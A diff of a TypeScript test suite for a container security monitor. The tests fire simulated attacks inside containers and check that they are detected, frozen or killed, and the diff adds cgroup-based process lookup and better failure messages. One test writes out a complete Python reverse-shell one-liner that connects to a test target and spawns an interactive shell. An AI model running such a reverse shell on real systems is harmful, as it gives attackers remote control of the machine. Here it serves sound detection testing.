@@ -24,6 +24,7 @@ import * as path from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { GuardClient } from '../../helper/guard/client';
 import { auditLocation } from '../../helper/guard/monitor/audit-location';
+import { findContainerCgroup, listCgroupPids } from '../../helper/guard/monitor/collector';
 import { readFreezer, writeFreezer } from '../../helper/host/freezer';
 import type { IncusClient } from '../../helper/incus/client';
 import type { GuardEvent, ThreatEventWire, ThreatRecord } from '../../helper/protocol/methods';
@@ -62,7 +63,7 @@ function startGuard(): ChildProcess {
   return g;
 }
 
-/** One process in the dead-end namespace listening on the attack ports; a line per accepted connection; gone after 230 s. */
+/** One process in the dead-end namespace listening on the attack ports; a line per accepted connection; gone after 600 s (the file runs 4-5 minutes; after() kills it sooner). */
 function startListener(ports: number[]): Promise<void> {
   const script = `
     const net = require('net');
@@ -77,7 +78,7 @@ function startListener(ports: number[]): Promise<void> {
       });
       srv.listen(port, ${JSON.stringify(TARGET)}, () => { if (++up === ${ports.length}) console.log(JSON.stringify({ ready: true })); });
     }
-    setTimeout(() => { for (const s of socks) s.destroy(); process.exit(0); }, 230000);`;
+    setTimeout(() => { for (const s of socks) s.destroy(); process.exit(0); }, 600000);`;
   listener = spawn('ip', ['netns', 'exec', SETUP_NAMES.deadEndNamespace, process.execPath, '-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
   return new Promise((resolve, reject) => {
     let buf = '';
@@ -143,6 +144,20 @@ async function waitFor<T>(what: string, f: () => T | undefined | Promise<T | und
 function tail(file: string, n: number): string {
   try {
     return readFileSync(file, 'utf8').split('\n').slice(-n).join('\n');
+  } catch {
+    return '';
+  }
+}
+
+/** The container's processes, from its cgroup on the host (works while it is frozen). */
+function containerPids(name: string): number[] {
+  const dir = findContainerCgroup(name);
+  return dir ? listCgroupPids([dir]).pids : [];
+}
+
+function cmdlineOf(pid: number): string {
+  try {
+    return readFileSync(`/proc/${pid}/cmdline`, 'utf8').replace(/\0$/, '');
   } catch {
     return '';
   }
@@ -339,8 +354,10 @@ describe('the monitor in the guard', () => {
     measured.push(`200 MB read: detect → cgroup frozen ${high.response?.containMs} ms (${high.description.slice(0, 100)})`);
     // What a person does before resuming: end the offending command (SIGKILL waits for the thaw;
     // nothing of it runs again). Left running, the rest of the read would be frozen again.
-    const reader = high.evidence.process?.pid;
-    assert.ok(reader, 'the reader is named');
+    // The finding names the reader when one process did it all within a window; under load the
+    // reads straddle windows and the container's total is what crossed the line: find it from the host.
+    const reader = high.evidence.process?.pid ?? containerPids(name).find((pid) => cmdlineOf(pid) === 'cat\0/workspace/big.bin');
+    assert.ok(reader, `the reader is named or found: ${high.description}`);
     process.kill(reader, 'SIGKILL');
     const r = await coi(['resume', name], { HOME: homes.main, COI_CONTAINER_PREFIX: PREFIX });
     assert.equal(r.code, 0, r.stderr);
@@ -496,8 +513,12 @@ describe('the monitor on the agent image (python3, socat, npm, dig)', () => {
   test('agent image: a python reverse shell is killed; the line has the remote address and the chain', async () => {
     const name = names.python!;
     const port = PORT0 + 5;
-    await type(name, `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${TARGET}",${port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'`);
-    const crit = await expectKilled('python', name, port);
+    // Its errors before the dup2 (a refused connect, say) land in the workspace, for a failure's message.
+    await type(name, `python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("${TARGET}",${port}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])' 2> /workspace/py.err`);
+    const crit = await expectKilled('python', name, port).catch((e: Error) => {
+      const err = path.join(root, 'ws-agent-python', 'py.err');
+      throw new Error(`${e.message}\n--- python's stderr: ${existsSync(err) ? readFileSync(err, 'utf8') : '(none: it did not run)'}; listener saw the port: ${accepted.has(port)}`);
+    });
     assert.equal(crit.evidence.network?.remote, TARGET);
     assert.equal(crit.evidence.network?.port, port);
     const chain = crit.evidence.process?.lineage ?? [];
